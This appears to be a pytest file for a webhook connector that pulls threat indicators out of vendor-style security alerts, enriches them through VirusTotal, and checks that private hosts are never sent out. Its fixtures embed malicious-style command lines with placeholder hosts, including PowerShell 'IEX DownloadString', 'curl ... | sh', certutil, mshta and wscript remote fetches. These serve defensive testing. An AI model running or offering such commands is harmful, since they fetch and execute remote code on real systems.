"""Alerts shaped like real products' (documented field names), with indicators planted where
extraction used to miss them: URLs and domains in command lines and script text, JSON documents
inside string fields, values with a type label in front. Every planted public indicator is
found and looked up; no planted private value (addresses, internal names, also inside command
lines) reaches VirusTotal: a loopback recording proxy sees every request the core sends."""

from __future__ import annotations

import json
from contextlib import asynccontextmanager
from dataclasses import replace

import pytest
from aiohttp import web

from connectors.core import config
from connectors.core.enricher import Enricher
from connectors.webhook import embedded, formats
from connectors.webhook.app import build_app
from tests.core.test_privacy import recording_proxy

from .test_receiver import BEARER, EICAR, SECRET, post

SHA1 = "3395856ce81f2b7382dee72602f798b642f14140"
SHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
EMPTY = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
PRIVATE = ["10.20.30.40", "192.168.7.7", "172.20.1.1", "fileserver.corp", "dc01.internal",
           "nas.local", "intranet.lan", "fd12::9"]  # fmt: skip

ALERTS = [
    # CrowdStrike Falcon DetectionSummaryEvent (streaming API field names)
    ("crowdstrike", {
        "metadata": {"eventType": "DetectionSummaryEvent", "offset": 901},
        "event": {"DetectId": "ldt:1:2", "ComputerName": "ws-7", "SHA256String": EMPTY,
                  "CommandLine": "powershell.exe -nop -w hidden -c \"IEX (New-Object "
                                 "System.Net.WebClient).DownloadString('http://stage1.example.net"
                                 "/a.ps1')\" ; net use \\\\10.20.30.40\\c$",
                  "ParentCommandLine": "cmd.exe /c nslookup c2-beacon.example.org 192.168.7.7",
                  "GrandparentCommandLine": "explorer.exe"}},
     ["http://stage1.example.net/a.ps1", "c2-beacon.example.org"]),
    # SentinelOne threat (API v2.1 threatInfo)
    ("sentinelone", {"data": {"threatInfo": {
        "threatId": "1801", "sha1": SHA1,
        "maliciousProcessArguments": "-f hxxps://drop[.]example[.]com/x.exe -o %TEMP%\\x.exe "
                                     "--proxy http://fileserver.corp:8080/"}}},
     ["https://drop.example.com/x.exe", SHA1]),
    # Microsoft Defender / Graph security alert v2 evidence
    ("generic", {"id": "da6377", "serviceSource": "microsoftDefenderForEndpoint", "evidence": [
        {"@odata.type": "#microsoft.graph.security.processEvidence",
         "processCommandLine": "certutil.exe -urlcache -f https://cdn.example.org/p.bin p.bin",
         "parentProcessCommandLine": "mshta.exe http://hta.example.com/run.hta "
                                     "\\\\dc01.internal\\netlogon",
         "imageFile": {"sha256": EMPTY}}]},
     ["https://cdn.example.org/p.bin", "http://hta.example.com/run.hta"]),
    # Microsoft Sentinel incident with a Process entity
    ("sentinel", {"object": {"name": "inc-7", "properties": {"relatedEntities": [
        {"kind": "Process", "properties": {
            "commandLine": "rundll32.exe url.dll,FileProtocolHandler http://lure.example.net/d"}},
        {"kind": "Ip", "properties": {"address": "172.20.1.1"}}]}}},
     ["http://lure.example.net/d"]),
    # Elastic Security alert through the Kibana webhook (flat ECS keys)
    ("elastic", {"context": {"alerts": [{
        "kibana.alert.uuid": "e-1",
        "process.command_line": "curl -s https://payload.example.com/i.sh | sh",
        "process.parent.command_line": "bash -c 'wget tools.example.org/t.tgz; "
                                       "ping nas.local'",
        "powershell.file.script_block_text": "$u='hxxp://ps-stage[.]example[.]net/s'; "
                                             "Invoke-WebRequest $u -Uri http://192.168.7.7/x; "
                                             "Import-Module Microsoft.PowerShell.Management"}]}},
     ["https://payload.example.com/i.sh", "http://tools.example.org/t.tgz",
      "http://ps-stage.example.net/s"]),
    # Splunk webhook alert action, `result` templated as a JSON string
    ("splunk", {"sid": "rt_1", "search_name": "Proxy IOC",
                "result": json.dumps({"dest": "splunk-dest.example.com", "src_ip": "10.20.30.40",
                                      "url": "http://splunk-url.example.org/q"})},
     ["splunk-dest.example.com", "http://splunk-url.example.org/q"]),
    # Sumo Logic scheduled search webhook, results as JSON text
    ("sumologic", {"SearchName": "proxy", "SearchQueryUrl": "https://service.sumologic.com/x",
                   "Id": "sq-1",
                   "search_results": json.dumps([
                       {"src_ip": "192.168.7.7", "dst_ip": "198.51.100.23",
                        "_sourcehost": "proxy01.corp"},
                       {"query": "sumo-dns.example.net", "hostname": "intranet.lan"}])},
     ["198.51.100.23", "sumo-dns.example.net"]),
    # Datadog monitor webhook, $EVENT_MSG rendered as a JSON body
    ("datadog", {"id": "77", "alert_id": "55", "title": "Beacon",
                 "body": json.dumps({"domain": "dd-c2.example.com", "file.hash": EICAR,
                                     "note": "see http://dd-note.example.org/x"})},
     ["dd-c2.example.com", EICAR, "http://dd-note.example.org/x"]),
    # Graylog HTTP notification with a templated backlog
    ("graylog", {"event_definition_id": "ed", "event": {"id": "01J", "message": "IOC"},
                 "backlog": json.dumps([{"message": "hit", "fields": {
                     "dst_ip": "203.0.113.77", "src_ip": "10.20.30.40"}}])},
     ["203.0.113.77"]),
    # Values with a type label in front; Sysmon's Hashes field (via Wazuh)
    ("generic", {"rule": "ioc", "hash": f"md5 {EICAR}",
                 "iocs": [f"sha256: {SHA256}", "ip=203.0.113.88", "ip=10.20.30.40",
                          "domain: label.example.com", "fqdn=dc01.internal"]},
     [EICAR, SHA256, "203.0.113.88", "label.example.com"]),
    ("wazuh", {"all_fields": {"id": "1.2", "rule": {"level": 10}, "agent": {"name": "w"},
                              "data": {"win": {"eventdata": {
                                  "hashes": f"SHA1={SHA1},MD5={EICAR},IMPHASH=0123",
                                  "commandLine": "wscript.exe //e:jscript "
                                                 "https://js.example.com/x.js fd12::9"}}}}},
     [SHA1, EICAR, "https://js.example.com/x.js"]),
]  # fmt: skip


@pytest.mark.parametrize("fmt, alert, planted", ALERTS, ids=[a[0] for a in ALERTS])
def test_planted_indicators_are_extracted(fmt, alert, planted):
    used, values = formats.indicators("auto", alert)
    assert used == fmt
    assert set(planted) <= set(values), values
    assert "microsoft.powershell.management" not in values


@asynccontextmanager
async def receiver_asking(vt_url, state_dir):
    """The webhook receiver on a real socket with one bearer source, its core asking `vt_url`
    (the emulator, or a recording proxy in front of it) at the unlimited tier."""
    s = config.for_emulator(config.from_mapping({}, env={}), vt_url, str(state_dir))
    raw = {
        "quota": {"tier": "unlimited"},
        "webhook": {
            "sources": [{"name": "bearer", "format": "auto", "auth": "bearer", "secret": SECRET}]
        },
    }
    s = replace(s, raw=raw, quota=config.QuotaSettings(tier="unlimited"))
    enricher = Enricher(s, connector="webhook")
    runner = web.AppRunner(build_app(s, enricher), access_log=None, shutdown_timeout=1.0)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    try:
        yield f"http://127.0.0.1:{site._server.sockets[0].getsockname()[1]}"
    finally:
        await runner.cleanup()
        await enricher.aclose()
        enricher.close()


@pytest.fixture
async def receiver_via_proxy(emulator_url, tmp_path):
    async with recording_proxy(emulator_url) as (proxy_url, seen), receiver_asking(
        proxy_url, tmp_path
    ) as url:
        yield url, seen


async def test_every_planted_indicator_found_and_nothing_private_sent(receiver_via_proxy):
    url, seen = receiver_via_proxy
    planted = found = 0
    for fmt, alert, expected in ALERTS:
        status, answer = await post(url, f"/v1/alerts/{fmt}?wait=10", alert, BEARER)
        assert status == 200, answer
        looked_up = {o["normalized"]: o for o in answer["enrichment"]["observables"]}
        for value in expected:
            planted += 1
            o = looked_up.get(value)
            found += o is not None and o["verdict"] not in ("skipped", "error", "quota")
        for o in answer["enrichment"]["observables"]:
            if any(p in o["normalized"] for p in PRIVATE):
                assert o["verdict"] == "skipped", o
    assert found == planted, f"{found} of {planted} planted indicators found"
    sent = "\n".join(seen)
    assert seen
    for leak in PRIVATE + ["proxy01", "fileserver", "netlogon"]:
        assert leak not in sent, leak


async def test_block_names_the_normalized_value_and_counts_one_file_once(receiver_via_proxy):
    url, _ = receiver_via_proxy
    alert = {
        "url": "hxxp://phish-kit[.]example[.]com/login",
        "md5": EICAR.upper(),
        "sha1": SHA1,
        "sha256": SHA256,
        "ip": "203.0.113.66",
    }
    status, answer = await post(url, "/v1/alerts/generic?wait=10", alert, BEARER)
    assert status == 200, answer
    block = answer["enrichment"]
    by_value = {o["value"]: o for o in block["observables"]}
    assert by_value["hxxp://phish-kit[.]example[.]com/login"]["normalized"] == (
        "http://phish-kit.example.com/login"
    )
    assert by_value[EICAR.upper()]["normalized"] == EICAR
    assert all(o["normalized"] for o in block["observables"])
    files = [by_value[v] for v in (EICAR.upper(), SHA1, SHA256)]
    primary = [o for o in files if "same_as" not in o]
    assert len(primary) == 1, files
    assert sorted(primary[0]["aliases"]) == sorted(o["value"] for o in files if o is not primary[0])
    assert all(o["same_as"] == primary[0]["value"] for o in files if o is not primary[0])
    assert block["indicators"] == 3  # the URL, the file, the IP
    assert " of 3 indicators" in block["summary"], block["summary"]


def test_embedded_json_is_bounded():
    deep = "[" * 80 + "]" * 80
    doc, _ = embedded.expand({"a": deep, "b": "{not json"}, formats.is_free_text)
    assert doc == {"a": deep, "b": "{not json"}  # too deep or not JSON: kept as text
    inner = json.dumps({"url": "http://nested.example.com/"})
    for _ in range(embedded.MAX_LEVELS + 2):
        inner = json.dumps({"x": inner})
    doc, _ = embedded.expand({"a": inner}, formats.is_free_text)  # no recursion, levels capped
    assert isinstance(doc["a"], dict)
    original = {"result": json.dumps({"dest": "x.example.com"})}
    embedded.expand(original, formats.is_free_text)
    assert isinstance(original["result"], str)  # the sender's alert is not changed
